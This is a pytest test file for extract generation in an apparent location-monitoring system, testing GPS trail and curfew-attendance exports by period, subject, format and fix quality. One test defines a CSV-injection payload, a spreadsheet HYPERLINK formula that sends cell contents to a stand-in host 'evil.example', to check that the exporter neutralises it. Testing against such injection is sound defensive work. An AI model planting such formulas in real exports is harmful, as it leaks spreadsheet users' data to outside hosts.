"""Extracts of an approved access request (api/extracts.py): only the approved
period, only the subject's fixes, only what the kind allows, per-fix quality,
attendance computed with the contract's rules and carrying no coordinates."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import xml.etree.ElementTree as ET
from dataclasses import replace

import pytest
from pyproj import Transformer

from api.access.extracts import (
    EXTENSIONS_NS,
    GPX_NS,
    ExtractError,
    attendance_extract,
    trail_extract,
)
from geofence.model import Assignment, Policy, Window, Zone
from trails.ingest import ingest
from trails.timestamps import format_ms, parse_timestamp

CENTRE = (-2.987654, 53.403219)  # lon, lat (Liverpool)
_TO = Transformer.from_crs("EPSG:4326", "EPSG:27700", always_xy=True)
_FROM = Transformer.from_crs("EPSG:27700", "EPSG:4326", always_xy=True)


def _offset(dx_m: float, dy_m: float = 0.0) -> tuple[float, float]:
    """(lon, lat) of the point dx, dy metres (EPSG:27700) from CENTRE."""
    x, y = _TO.transform(*CENTRE)
    lon, lat = _FROM.transform(x + dx_m, y + dy_m)
    return round(float(lon), 7), round(float(lat), 7)


AT_CENTRE = CENTRE
EDGE_45 = _offset(45.0)     # 5 m inside a 50 m circle
FAR = _offset(1000.0)       # well outside
EVERY_DAY = tuple(range(7))
CURFEW = Zone("HOME-A", "curfew", None, CENTRE, 50.0, (Window(EVERY_DAY, 19 * 60, 7 * 60),))
INCL = Zone("INC-1", "inclusion", None, CENTRE, 50.0, None)  # always active
ZONES = (CURFEW, INCL)
POLICY = Policy()


def ms(text: str) -> int:
    return parse_timestamp(text)


# --------------------------------------------------------------------------
# The store: a handful of wearers, written as a CSV and ingested once
# --------------------------------------------------------------------------
ASSIGNMENTS = (
    # D-1 passes from S-A to S-B at midnight
    Assignment("S-A", "D-1", ms("2024-03-04T00:00:00Z"), ms("2024-03-05T00:00:00Z"), ("INC-1",)),
    Assignment("S-B", "D-1", ms("2024-03-05T00:00:00Z"), None, ("INC-1", "HOME-A")),
    Assignment("S-C", "D-2", ms("2024-03-04T00:00:00Z"), None, ("HOME-A",)),
    Assignment("S-HOME", "D-HOME", ms("2024-03-04T00:00:00Z"), None, ("HOME-A",)),
    Assignment("S-OUT", "D-OUT", ms("2024-03-04T00:00:00Z"), None, ("HOME-A",)),
    Assignment("S-EXC", "D-EXC", ms("2024-03-04T00:00:00Z"), None, ("HOME-A",)),
    Assignment("S-SIL", "D-SIL", ms("2024-03-04T00:00:00Z"), None, ("HOME-A",)),
    Assignment("S-UNC", "D-UNC", ms("2024-03-04T00:00:00Z"), None, ("HOME-A",)),
    Assignment("S-MISS", "D-MISS", ms("2024-03-04T00:00:00Z"), None, ("HOME-A",)),
)

# D-1: (ts, (lon, lat), accuracy or None, battery)
D1_ROWS = [
    ("2024-03-04T22:00:00Z", AT_CENTRE, 7.0, 81.0),          # S-A's
    ("2024-03-04T23:59:59.999Z", FAR, 7.0, 81.0),            # S-A's, last instant
    ("2024-03-05T00:00:00Z", AT_CENTRE, 10.0, 37.5),         # S-B: deep inside -> decisive
    ("2024-03-05T00:10:00Z", EDGE_45, 20.0, 37.5),           # S-B: 5 m from edge, acc 20 -> uncertain
    ("2024-03-05T00:20:00Z", AT_CENTRE, None, 37.5),         # no accuracy: default 0 -> decisive
    ("2024-03-05T00:30:00Z", FAR, 3.0, 37.5),                # clearly out -> decisive
    ("2024-03-05T11:59:59.999Z", EDGE_45, 60.0, 37.5),       # last instant of the period
    ("2024-03-05T12:00:00Z", AT_CENTRE, 10.0, 37.5),         # period end: excluded
    ("2024-03-06T00:00:00Z", AT_CENTRE, 10.0, 37.5),         # later: excluded
]
# D-2 (S-C, curfew only): the same edge fix by day (curfew inactive) and by night
D2_ROWS = [
    ("2024-03-05T12:00:00Z", EDGE_45, 20.0, 90.0),
    ("2024-03-05T21:00:00Z", EDGE_45, 20.0, 90.0),
]
NIGHT = ("2024-03-05T18:00:00Z", "2024-03-06T08:00:00Z")  # fixes every minute, curfew 19:00-07:00Z


def _night(position_at) -> list[tuple]:
    t0, t1 = ms(NIGHT[0]), ms(NIGHT[1])
    rows = []
    for t in range(t0, t1, 60_000):
        pos, acc = position_at(t)
        rows.append((format_ms(t), pos, acc, 70.0))
    return rows


def _between(t: int, a: str, b: str) -> bool:
    return ms(a) <= t < ms(b)


DEVICE_ROWS = {
    "D-1": D1_ROWS,
    "D-2": D2_ROWS,
    "D-HOME": _night(lambda t: (AT_CENTRE, 5.0)),
    "D-OUT": _night(lambda t: (FAR if _between(t, "2024-03-05T21:00:00Z", "2024-03-05T22:00:00Z")
                               else AT_CENTRE, 5.0)),
    "D-EXC": _night(lambda t: (FAR if _between(t, "2024-03-05T21:00:00Z", "2024-03-05T21:10:00Z")
                               else AT_CENTRE, 5.0)),
    "D-SIL": [("2024-03-05T12:00:00Z", AT_CENTRE, 5.0, 70.0), ("2024-03-06T09:00:00Z", AT_CENTRE, 5.0, 70.0)],
    "D-UNC": _night(lambda t: (EDGE_45, 20.0)),
    # out 19:00-23:00, then silent: never home
    "D-MISS": [r for r in _night(lambda t: (FAR, 5.0))
               if ms("2024-03-05T19:00:00Z") <= ms(r[0]) < ms("2024-03-05T23:00:00Z")],
}
ALL_COORD_TEXT = sorted({f"{v:.4f}" for rows in DEVICE_ROWS.values() for _, pos, _, _ in rows for v in pos})


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    root = tmp_path_factory.mktemp("extracts")
    path = root / "fixes.csv"
    with open(path, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["device_id", "ts", "lat", "lon", "accuracy_m", "battery_pct"])
        for dev, rows in DEVICE_ROWS.items():
            for ts, (lon, lat), acc, batt in rows:
                w.writerow([dev, ts, repr(lat), repr(lon), "" if acc is None else repr(acc), repr(batt)])
    h = root / "home"
    summary = ingest(path, home=h)
    assert summary.fixes_stored == sum(len(r) for r in DEVICE_ROWS.values())
    return h


def trail(home, subject="S-B", start="2024-03-04T12:00:00Z", end="2024-03-05T12:00:00Z", fmt="geojson", **kw):
    return trail_extract(home, subject_id=subject, assignments=ASSIGNMENTS, zones=ZONES,
                         policy=kw.pop("policy", POLICY), start_ms=ms(start), end_ms=ms(end), fmt=fmt, **kw)


def attendance(home, subject, start="2024-03-05T12:00:00Z", end="2024-03-06T12:00:00Z", fmt="json", **kw):
    return attendance_extract(home, subject_id=subject, assignments=ASSIGNMENTS, zones=ZONES,
                              policy=kw.pop("policy", POLICY), start_ms=ms(start), end_ms=ms(end), fmt=fmt, **kw)


# --------------------------------------------------------------------------
# Trail
# --------------------------------------------------------------------------
# S-B's fixes inside [03-04 12:00, 03-05 12:00): S-A's fixes on D-1 before midnight are not S-B's
EXPECTED_B = [
    ("2024-03-05T00:00:00.000Z", AT_CENTRE, 10.0, "decisive"),
    ("2024-03-05T00:10:00.000Z", EDGE_45, 20.0, "uncertain"),
    ("2024-03-05T00:20:00.000Z", AT_CENTRE, None, "decisive"),
    ("2024-03-05T00:30:00.000Z", FAR, 3.0, "decisive"),
    ("2024-03-05T11:59:59.999Z", EDGE_45, 60.0, "uncertain"),
]


def test_trail_geojson_only_period_and_subject(home):
    ex = trail(home)
    doc = json.loads(ex.content)
    assert doc["type"] == "FeatureCollection"
    assert doc["subject_id"] == "S-B"
    assert doc["period"] == {"start": "2024-03-04T12:00:00.000Z", "end": "2024-03-05T12:00:00.000Z"}
    got = [(f["properties"]["ts"], tuple(f["geometry"]["coordinates"]), f["properties"]["accuracy_m"],
            f["properties"]["quality"]) for f in doc["features"]]
    assert got == [(ts, pos, acc, q) for ts, pos, acc, q in EXPECTED_B]
    for f in doc["features"]:
        assert f["type"] == "Feature" and f["geometry"]["type"] == "Point"
        assert list(f["properties"]) == ["ts", "accuracy_m", "quality"]
    assert ex.n_items == 5
    assert ex.media_type == "application/geo+json"
    assert ex.filename == "trail-S-B-20240304T120000Z-20240305T120000Z.geojson"
    assert ex.sha256 == hashlib.sha256(ex.content).hexdigest()
    # no battery, no device id
    assert b"37.5" not in ex.content and b"D-1" not in ex.content and b"battery" not in ex.content


def test_trail_previous_wearer_sees_only_own_fixes(home):
    ex = trail(home, subject="S-A", start="2024-03-04T00:00:00Z", end="2024-03-07T00:00:00Z", fmt="csv")
    rows = list(csv.DictReader(io.StringIO(ex.content.decode())))
    assert [r["ts"] for r in rows] == ["2024-03-04T22:00:00.000Z", "2024-03-04T23:59:59.999Z"]
    assert ex.n_items == 2


def test_trail_csv(home):
    ex = trail(home, fmt="csv")
    text = ex.content.decode("utf-8")
    reader = csv.reader(io.StringIO(text))
    header = next(reader)
    assert header == ["ts", "lat", "lon", "accuracy_m", "quality"]
    rows = list(reader)
    assert len(rows) == ex.n_items == 5
    for row, (ts, (lon, lat), acc, q) in zip(rows, EXPECTED_B):
        assert row[0] == ts
        assert float(row[1]) == lat and float(row[2]) == lon
        assert row[3] == ("" if acc is None else repr(acc))
        assert row[4] == q
    assert ex.media_type == "text/csv" and ex.filename.endswith(".csv")


def test_trail_gpx(home):
    ex = trail(home, fmt="gpx")
    root = ET.fromstring(ex.content)
    ns = {"g": GPX_NS, "tt": EXTENSIONS_NS}
    assert root.tag == f"{{{GPX_NS}}}gpx" and root.get("version") == "1.1"
    trks = root.findall("g:trk", ns)
    assert len(trks) == 1 and len(trks[0].findall("g:trkseg", ns)) == 1
    pts = root.findall("g:trk/g:trkseg/g:trkpt", ns)
    assert len(pts) == ex.n_items == 5
    for pt, (ts, (lon, lat), acc, q) in zip(pts, EXPECTED_B):
        assert float(pt.get("lat")) == lat and float(pt.get("lon")) == lon
        assert pt.find("g:time", ns).text == ts
        ext = pt.find("g:extensions", ns)
        assert ext.find("tt:quality", ns).text == q
        a = ext.find("tt:accuracy_m", ns)
        assert (a is None) if acc is None else float(a.text) == acc
        assert [c.tag.split("}")[1] for c in pt] == ["time", "extensions"]
    assert ex.media_type == "application/gpx+xml"


@pytest.mark.parametrize("fmt", ["geojson", "csv", "gpx"])
def test_trail_deterministic(home, fmt):
    a, b = trail(home, fmt=fmt), trail(home, fmt=fmt)
    assert a == b
    assert a.sha256 == hashlib.sha256(a.content).hexdigest()


def test_quality_only_counts_active_zones(home):
    # S-C has only the 19:00-07:00 curfew: the edge fix by day has no active zone -> decisive
    ex = trail(home, subject="S-C", start="2024-03-05T00:00:00Z", end="2024-03-06T00:00:00Z", fmt="csv")
    rows = list(csv.DictReader(io.StringIO(ex.content.decode())))
    assert [(r["ts"], r["quality"]) for r in rows] == [
        ("2024-03-05T12:00:00.000Z", "decisive"), ("2024-03-05T21:00:00.000Z", "uncertain")]


def test_quality_uses_default_accuracy(home):
    # with a 60 m default, the centre fix without accuracy can no longer be IN a 50 m circle
    ex = trail(home, fmt="csv", policy=replace(POLICY, default_accuracy_m=60.0))
    rows = list(csv.DictReader(io.StringIO(ex.content.decode())))
    assert rows[2]["ts"] == "2024-03-05T00:20:00.000Z"
    assert rows[2]["accuracy_m"] == "" and rows[2]["quality"] == "uncertain"


def test_trail_other_crs_same_quality(home):
    # another projected CRS: positions projected from lat/lon instead of the stored x/y
    a = trail(home, fmt="csv")
    b = trail(home, fmt="csv", policy=replace(POLICY, crs="EPSG:32630"))
    assert a.content == b.content


def test_trail_empty_period_no_fixes(home):
    ex = trail(home, start="2024-02-01T00:00:00Z", end="2024-02-02T00:00:00Z")
    assert json.loads(ex.content)["features"] == [] and ex.n_items == 0


@pytest.mark.parametrize("fmt", ["json", "kml", ""])
def test_trail_bad_format(home, fmt):
    with pytest.raises(ExtractError, match="geojson or csv or gpx"):
        trail(home, fmt=fmt)


@pytest.mark.parametrize("start,end", [("2024-03-05T00:00:00Z", "2024-03-05T00:00:00Z"),
                                       ("2024-03-06T00:00:00Z", "2024-03-05T00:00:00Z")])
def test_empty_or_reversed_period(home, start, end):
    with pytest.raises(ExtractError, match="period"):
        trail(home, start=start, end=end)
    with pytest.raises(ExtractError, match="period"):
        attendance(home, "S-HOME", start=start, end=end)


def test_missing_zone_is_an_error(home):
    with pytest.raises(ExtractError, match="HOME-A"):
        trail_extract(home, subject_id="S-C", assignments=ASSIGNMENTS, zones=(INCL,), policy=POLICY,
                      start_ms=ms("2024-03-05T00:00:00Z"), end_ms=ms("2024-03-06T00:00:00Z"), fmt="csv")


# --------------------------------------------------------------------------
# Attendance
# --------------------------------------------------------------------------
W_START, W_END = "2024-03-05T19:00:00.000Z", "2024-03-06T07:00:00.000Z"


def _windows(ex) -> list[dict]:
    return json.loads(ex.content)["windows"]


@pytest.mark.parametrize("subject,status,home_s,absent_s,unknown_s", [
    ("S-HOME", "home", 43200, 0, 0),
    ("S-OUT", "absent", 39600, 3600, 0),
    ("S-EXC", "home", 42600, 600, 0),       # 10 minutes out, grace 15: benefit of the doubt
    ("S-SIL", "unknown", 0, 0, 43200),
    ("S-UNC", "unknown", 0, 0, 43200),      # uncertain all night is not absence
], ids=["home", "out-1h", "excursion-10min", "silence", "uncertain"])
def test_attendance_night(home, subject, status, home_s, absent_s, unknown_s):
    ex = attendance(home, subject)
    assert _windows(ex) == [{"zone_id": "HOME-A", "window_start": W_START, "window_end": W_END, "status": status,
                             "home_s": home_s, "absent_s": absent_s, "unknown_s": unknown_s}]
    assert home_s + absent_s + unknown_s == 12 * 3600
    assert ex.n_items == 1 and ex.media_type == "application/json"
    assert ex.filename == f"attendance-{subject}-20240305T120000Z-20240306T120000Z.json"


def test_attendance_grace_from_policy(home):
    # with a 5-minute grace the 10-minute excursion is a breach
    ex = attendance(home, "S-EXC", policy=replace(POLICY, curfew_grace_ms=300_000))
    assert _windows(ex)[0]["status"] == "absent"


@pytest.mark.parametrize("fraction,status", [(0.3, "absent"), (0.5, "unknown")])
def test_attendance_missed_window(home, fraction, status):
    # never home, out about 4 of 12 hours: with a grace too long for any absence, only
    # curfew_missed (OUT share >= fraction) can make the window absent
    pol = replace(POLICY, curfew_grace_ms=10**9, curfew_missed_fraction=fraction)
    (w,) = _windows(attendance(home, "S-MISS", policy=pol))
    # the 22:59 fix covers 5 minutes (coverage_s), so the absence ends at 23:04
    assert (w["status"], w["home_s"], w["absent_s"], w["unknown_s"]) == (status, 0, 4 * 3600 + 240, 8 * 3600 - 240)
    # and the S-OUT night (home most of it) is never missed, whatever the fraction
    (w,) = _windows(attendance(home, "S-OUT", policy=replace(pol, curfew_missed_fraction=0.01)))
    assert w["status"] == "home"


def test_attendance_window_cut_by_period_and_as_of(home):
    ex = attendance(home, "S-OUT", start="2024-03-05T21:30:00Z", end="2024-03-06T12:00:00Z",
                    as_of_ms=ms("2024-03-06T01:00:00Z"))
    (w,) = _windows(ex)
    assert (w["window_start"], w["window_end"]) == ("2024-03-05T21:30:00.000Z", "2024-03-06T01:00:00.000Z")
    assert (w["status"], w["home_s"], w["absent_s"], w["unknown_s"]) == ("absent", 3 * 3600, 1800, 0)
    assert json.loads(ex.content)["as_of"] == "2024-03-06T01:00:00.000Z"


def test_attendance_several_nights_in_order(home):
    ex = attendance(home, "S-HOME", start="2024-03-04T00:00:00Z", end="2024-03-07T00:00:00Z")
    ws = _windows(ex)
    assert [(w["window_start"], w["status"]) for w in ws] == [
        ("2024-03-04T00:00:00.000Z", "unknown"),   # 03-03 19:00 window cut by the assignment start
        ("2024-03-04T19:00:00.000Z", "unknown"),
        ("2024-03-05T19:00:00.000Z", "home"),
        ("2024-03-06T19:00:00.000Z", "unknown"),
    ]
    for w in ws:
        length = (ms(w["window_end"]) - ms(w["window_start"])) / 1000
        assert w["home_s"] + w["absent_s"] + w["unknown_s"] == length


def test_attendance_csv_and_no_coordinates(home):
    for subject in ("S-HOME", "S-OUT", "S-EXC", "S-UNC"):
        for fmt in ("json", "csv"):
            ex = attendance(home, subject, fmt=fmt)
            text = ex.content.decode("utf-8")
            for coord in ALL_COORD_TEXT:
                assert coord not in text, (subject, fmt, coord)
            for word in ("lat", "lon", "accuracy", "coordinates", "geometry"):
                assert word not in text
    ex = attendance(home, "S-OUT", fmt="csv")
    rows = list(csv.DictReader(io.StringIO(ex.content.decode())))
    assert rows == [{"zone_id": "HOME-A", "window_start": W_START, "window_end": W_END, "status": "absent",
                     "home_s": "39600", "absent_s": "3600", "unknown_s": "0"}]
    assert ex.media_type == "text/csv" and ex.n_items == 1
    assert ex.sha256 == hashlib.sha256(ex.content).hexdigest()


FORMULA_ZONE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def test_attendance_csv_zone_id_is_never_a_formula(home):
    zone = replace(CURFEW, zone_id=FORMULA_ZONE)
    mine = (Assignment("S-OUT", "D-OUT", ms("2024-03-04T00:00:00Z"), None, (FORMULA_ZONE,)),)
    kw = dict(subject_id="S-OUT", assignments=mine, zones=(zone,), policy=POLICY,
              start_ms=ms("2024-03-05T12:00:00Z"), end_ms=ms("2024-03-06T12:00:00Z"))
    ex = attendance_extract(home, fmt="csv", **kw)
    rows = list(csv.DictReader(io.StringIO(ex.content.decode())))
    # OWASP: a leading quote makes a spreadsheet show the text instead of running it; numbers untouched
    assert rows == [{"zone_id": "'" + FORMULA_ZONE, "window_start": W_START, "window_end": W_END,
                     "status": "absent", "home_s": "39600", "absent_s": "3600", "unknown_s": "0"}]
    doc = json.loads(attendance_extract(home, fmt="json", **kw).content)  # JSON is data: the id as it is
    assert [w["zone_id"] for w in doc["windows"]] == [FORMULA_ZONE]


def test_trail_csv_negative_longitude_stays_a_number(home):
    rows = list(csv.reader(io.StringIO(trail(home, fmt="csv").content.decode())))[1:]
    lons = [row[2] for row in rows]
    assert lons == [repr(lon) for _, (lon, _lat), _, _ in EXPECTED_B]
    assert all(v.startswith("-") for v in lons)  # Liverpool is west of Greenwich: not "'-2.98..."


def test_attendance_deterministic(home):
    assert attendance(home, "S-OUT") == attendance(home, "S-OUT")


@pytest.mark.parametrize("fmt", ["geojson", "gpx"])
def test_attendance_refuses_coordinate_formats(home, fmt):
    with pytest.raises(ExtractError, match="json or csv"):
        attendance(home, "S-HOME", fmt=fmt)


def test_attendance_non_curfew_zones_and_other_subjects_ignored(home):
    # S-A has only an inclusion zone: no curfew windows; an unknown subject has nothing
    assert _windows(attendance(home, "S-A", start="2024-03-04T00:00:00Z")) == []
    ex = attendance(home, "S-NOBODY")
    assert _windows(ex) == [] and ex.n_items == 0


# --------------------------------------------------------------------------
# A simulated population
# --------------------------------------------------------------------------
def test_simulated_population(tmp_path):
    from geofence.subjects import load_subjects
    from geofence.zones import load_zones
    from trails.sim.simulate import simulate
    from trails.store import read_store_fixes

    s = simulate(tmp_path / "sim", wearers=3, days=2)
    h = tmp_path / "home"
    ingest(s.fixes_path, home=h)
    zones = load_zones(tmp_path / "sim" / "zones.geojson")
    assignments = load_subjects(tmp_path / "sim" / "subjects.json", [z.zone_id for z in zones])
    start, end = ms("2024-03-04T06:00:00Z"), ms("2024-03-05T18:00:00Z")
    for subject in sorted({a.subject_id for a in assignments}):
        mine = [a for a in assignments if a.subject_id == subject]
        ex = trail_extract(h, subject_id=subject, assignments=assignments, zones=zones, policy=POLICY,
                           start_ms=start, end_ms=end, fmt="csv")
        rows = list(csv.DictReader(io.StringIO(ex.content.decode())))
        ts = [ms(r["ts"]) for r in rows]
        assert ts == sorted(ts) and len(set(ts)) == len(ts)
        assert all(start <= t < end for t in ts)
        expected = 0
        for a in mine:
            f = read_store_fixes(h, start_ms=max(a.start_ms, start),
                                 end_ms=end if a.end_ms is None else min(a.end_ms, end), devices=[a.device_id])
            expected += len(f)
        assert len(rows) == ex.n_items == expected
        assert {r["quality"] for r in rows} <= {"decisive", "uncertain"}
        att = attendance_extract(h, subject_id=subject, assignments=assignments, zones=zones, policy=POLICY,
                                 start_ms=start, end_ms=end, fmt="json")
        for w in json.loads(att.content)["windows"]:
            ws, we = ms(w["window_start"]), ms(w["window_end"])
            assert start <= ws < we <= end
            assert w["home_s"] + w["absent_s"] + w["unknown_s"] == (we - ws) / 1000
            assert min(w["home_s"], w["absent_s"], w["unknown_s"]) >= 0
            assert w["status"] in ("home", "absent", "unknown")
